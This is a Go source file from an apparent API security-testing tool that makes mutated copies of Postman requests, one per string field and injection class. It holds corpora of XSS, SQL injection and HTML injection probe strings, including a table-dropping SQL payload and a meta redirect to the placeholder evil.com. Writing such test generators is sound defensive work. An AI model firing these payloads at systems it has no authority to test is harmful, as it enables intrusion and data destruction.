// Package security generates injection-test variants of Postman requests:
// one mutated copy of the request per string field per injection class.
package security

// Class describes one injection class and its payload corpus.
type Class struct {
	ID         string // master-data key: "xss", "sql", "html"
	Tag        string // request name tag, e.g. "XSS-Injection"
	FolderName string // generated folder name, e.g. "XSS-Injections"
	Payloads   []string
}

// XSSPayloads is the XSS corpus. Automatic generation uses only the first
// entry per field; the rest are kept for manual selection.
var XSSPayloads = []string{
	"<script>alert('XSS')</script>",
	"<img src=x onerror=alert(1)>",
	"<svg onload=alert('XSS')>",
	"javascript:alert('XSS')",
	"<iframe src=javascript:alert('XSS')>",
	"<body onload=alert('XSS')>",
	"<input onfocus=alert('XSS') autofocus>",
	"<select onfocus=alert('XSS') autofocus>",
	"<textarea onfocus=alert('XSS') autofocus>",
	"<keygen onfocus=alert('XSS') autofocus>",
}

// SQLPayloads is the SQL injection corpus.
var SQLPayloads = []string{
	"' OR '1'='1",
	"'; DROP TABLE users--",
	"' UNION SELECT NULL--",
	"admin'--",
	"' OR 1=1--",
	"' OR 'a'='a",
	"') OR ('1'='1",
	"1' OR '1'='1",
	"admin' OR '1'='1",
	"' OR 1=1#",
}

// HTMLPayloads is the HTML injection corpus.
var HTMLPayloads = []string{
	"<h1>Test</h1>",
	"<iframe src='http://example.com'></iframe>",
	"<img src='invalid' onerror='alert(1)'>",
	"<div>Test</div>",
	"<p>Test</p>",
	"<script>console.log('test')</script>",
	"<style>body{background:red}</style>",
	"<link rel='stylesheet' href='evil.css'>",
	"<meta http-equiv='refresh' content='0;url=evil.com'>",
	"<object data='evil.swf'></object>",
}

var (
	XSS  = Class{ID: "xss", Tag: "XSS-Injection", FolderName: "XSS-Injections", Payloads: XSSPayloads}
	SQL  = Class{ID: "sql", Tag: "SQL-Injection", FolderName: "SQL-Injections", Payloads: SQLPayloads}
	HTML = Class{ID: "html", Tag: "HTML-Injection", FolderName: "HTML-Injections", Payloads: HTMLPayloads}
)

// Selected returns the classes enabled for a conversion, in their canonical
// folder order.
func Selected(xss, sql, html bool) []Class {
	var classes []Class
	if xss {
		classes = append(classes, XSS)
	}
	if sql {
		classes = append(classes, SQL)
	}
	if html {
		classes = append(classes, HTML)
	}
	return classes
}
